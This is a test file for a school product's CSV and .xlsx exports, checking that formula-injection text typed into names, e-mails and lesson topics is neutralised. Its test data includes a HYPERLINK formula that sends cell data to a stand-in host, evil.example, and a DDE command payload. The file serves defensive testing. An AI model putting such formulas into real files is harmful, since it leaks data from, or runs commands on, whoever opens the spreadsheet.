// Finding 1 of issue 30: a name or an e-mail a person typed that a spreadsheet would run as a
// formula (=, +, -, @, tab, carriage return first) reaches every CSV the product writes
// neutralised, a single quote in front and the field quoted (OWASP 'CSV injection'); the .xlsx
// export keeps the same text as text. Through HTTP with real sessions, on both databases.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Account, createAccount, uniqueEmail } from '../../helpers/factories.ts';
import { createClass, createLesson, enrol } from '../../helpers/school.ts';
import { startTestServer, type TestClient, type TestServer } from '../../helpers/test-server.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
/** Names a person can type (the API keeps them as typed). */
const TYPED = [HYPERLINK, "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)*cmd'];
/** A tab or a return first cannot be typed (names are trimmed): stored as older data might be. */
const STORED = ['\t=1+1', '\r=1+1'];
/** An e-mail address may itself start with '-'. */
const DASH_EMAIL = `-${uniqueEmail('dash')}`;

let server: TestServer;
let admin: TestClient;
let teacher: Account;
let classId: string;
const students: Account[] = [];

beforeAll(async () => {
  server = await startTestServer();
  admin = await server.admin();
  teacher = await createAccount(server, admin, 'teacher');
  for (const full_name of [...TYPED, 'Tab later', 'Return later']) {
    students.push(await createAccount(server, admin, 'student', { full_name }));
  }
  students.push(
    await createAccount(server, admin, 'student', { full_name: 'Dash', email: DASH_EMAIL }),
  );
  const { db } = server.server.ctx.database;
  for (const [index, name] of STORED.entries()) {
    await db
      .updateTable('users')
      .set({ full_name: name })
      .where('user_id', '=', students[TYPED.length + index]!.user.user_id)
      .execute();
  }
  classId = (await createClass(admin, teacher.user.user_id)).class_id;
  await enrol(
    admin,
    classId,
    students.map((student) => student.user.user_id),
  );
  await createLesson(admin, classId, '2030-03-12T02:00:00Z', 60, '=1+1');
});
afterAll(() => server.close());

const NAMES = [...TYPED, ...STORED];

/** The CSV's bytes: the BOM, then every field quoted. */
async function csvOf(client: TestClient, path: string) {
  const response = await fetch(`${server.baseUrl}${path}`, {
    headers: { cookie: client.cookie! },
  });
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  const text = Buffer.from(await response.arrayBuffer()).toString('utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  const body = text.slice(1);
  const table: string[][] = parse(body, { relax_column_count: true });
  return { body, table };
}

/** No field of the table starts with what a spreadsheet runs. */
function expectNoFormula(table: string[][]) {
  for (const row of table) {
    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  }
}

describe('CSV exports neutralise what a spreadsheet would run', () => {
  test("the teacher's attendance CSV: each such name behind a quote, the rest as typed", async () => {
    const { body, table } = await csvOf(
      teacher.client,
      `/api/classes/${classId}/attendance/export?format=csv`,
    );
    expectNoFormula(table);
    const firstColumn = table.slice(1).map((row) => row[0]);
    for (const name of NAMES) expect(firstColumn).toContain(`'${name}`);
    expect(firstColumn).toContain('Dash');
    // The field is quoted in the file itself: its quotes doubled, its comma kept inside.
    expect(body).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"');
    // The lesson's topic was typed too: it stays behind the lesson's date in the header.
    expect(table[0]![1]).toMatch(/^\d.* – =1\+1$/);
  });

  test('the students CSV export: names and an e-mail starting with - behind a quote', async () => {
    const { table } = await csvOf(admin, '/api/users/export?role=student&format=csv');
    expectNoFormula(table);
    const names = table.slice(1).map((row) => row[1]);
    for (const name of NAMES) expect(names).toContain(`'${name}`);
    const emails = table.slice(1).map((row) => row[2]);
    expect(emails).toContain(`'${DASH_EMAIL}`);
    // The other columns are left as they were: numbers, plain e-mails, the status.
    expect(table.slice(1).map((row) => row[0])).toEqual(
      table.slice(1).map((_, index) => String(index + 1)),
    );
    expect(emails).toContain(students[0]!.email);
  });

  test('the .xlsx export keeps the same names as text, as typed', async () => {
    const response = await fetch(`${server.baseUrl}/api/users/export?role=student&format=xlsx`, {
      headers: { cookie: admin.cookie! },
    });
    expect(response.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    const cells: ExcelJS.Cell[] = [];
    workbook.worksheets[0]!.getColumn(2).eachCell((cell) => {
      cells.push(cell);
    });
    const names = cells.map((cell) => cell.value);
    // (XML reads a carriage return back as a line feed: the typed names are compared.)
    for (const name of TYPED) expect(names).toContain(name);
    // Text cells, never formulas.
    for (const cell of cells) expect(cell.type).toBe(ExcelJS.ValueType.String);
  });
});
